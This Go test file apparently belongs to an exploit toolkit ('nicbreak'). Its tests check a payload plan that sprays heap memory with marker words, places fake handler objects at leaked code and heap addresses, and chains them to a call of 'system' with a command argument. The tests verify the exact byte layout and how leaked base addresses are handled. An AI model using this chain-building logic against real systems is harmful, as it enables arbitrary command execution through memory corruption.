package chain

import (
	"bytes"
	"errors"
	"testing"

	"github.com/stretchr/testify/require"

	"gitlab.com/stephen-fox/nicbreak/leak"
	"gitlab.com/stephen-fox/nicbreak/memory"
)

func testPlan() Plan {
	return Plan{
		BaseWord: 250,
		Anchor:   "0x12890f0",
		Trailer:  "heap+0x1289120-0x30",
		Spray: &SprayPlan{
			From:    0x10,
			To:      0x1f8,
			Marker:  "0x414141414141",
			Pointer: "heap+0x12889b0",
		},
		Slots: []Slot{
			{
				Name:    "entry",
				Shape:   HandlerShape,
				At:      "0x12890f0",
				Handler: "code+$splitirq",
				Arg0:    "heap+0x1289140",
				Arg1:    "11",
			},
			{
				Name:    "fanout",
				Shape:   ObjectPairShape,
				At:      "0x1289140",
				Objects: [2]string{"heap+0x1289160", "heap+0x12891f0"},
			},
			{
				Name:    "command",
				Shape:   HandlerShape,
				At:      "0x1289250",
				Handler: "code+$system",
				Arg0:    "@cmd",
				Arg1:    "0x4141414141",
			},
		},
	}
}

func TestPlan_Apply(t *testing.T) {
	buf := make([]byte, 4096)

	err := testPlan().Apply(buf, testEnv(), memory.PointerMakerForX86_64())
	require.NoError(t, err)

	base := 250 * 8
	require.Equal(t, testCode+0x285b85, word(buf, base+6*8))
	require.Equal(t, testHeap+0x1289140, word(buf, base+7*8))
	require.Equal(t, uint64(11), word(buf, base+8*8))

	require.Equal(t, testHeap+0x1289160, word(buf, base+10*8))
	require.Equal(t, testHeap+0x12891f0, word(buf, base+11*8))

	index := (0x1289250 - 0x12890f0) / 8
	require.Equal(t, testCode+0xa8a00, word(buf, base+(index+6)*8))
	require.Equal(t, testPhys+0x3e4a010, word(buf, base+(index+7)*8))
	require.Equal(t, uint64(0x4141414141), word(buf, base+(index+8)*8))

	// Spray words outside of any slot survive.
	require.Equal(t, uint64(0x414141414141), word(buf, 0x10*8))
}

func TestPlan_ApplyIdempotent(t *testing.T) {
	pm := memory.PointerMakerForX86_64()

	a := make([]byte, 4096)
	require.NoError(t, testPlan().Apply(a, testEnv(), pm))

	b := make([]byte, 4096)
	require.NoError(t, testPlan().Apply(b, testEnv(), pm))
	require.NoError(t, testPlan().Apply(b, testEnv(), pm))

	require.True(t, bytes.Equal(a, b))
}

func TestPlan_ApplyRequiresBases(t *testing.T) {
	env := testEnv()
	env.Bases = leak.Bases{Code: testCode, Heap: testHeap}

	buf := make([]byte, 4096)
	err := testPlan().Apply(buf, env, memory.PointerMakerForX86_64())
	require.True(t, errors.Is(err, ErrTranslationRequired))
	require.Equal(t, make([]byte, 4096), buf)
}

func TestPlan_Validate(t *testing.T) {
	require.NoError(t, testPlan().Validate())

	plan := testPlan()
	plan.Slots[0].Arg1 = ""
	require.Error(t, plan.Validate())

	plan = testPlan()
	plan.Slots[1].Shape = "triple"
	require.Error(t, plan.Validate())

	plan = testPlan()
	plan.Anchor = ""
	require.Error(t, plan.Validate())
}
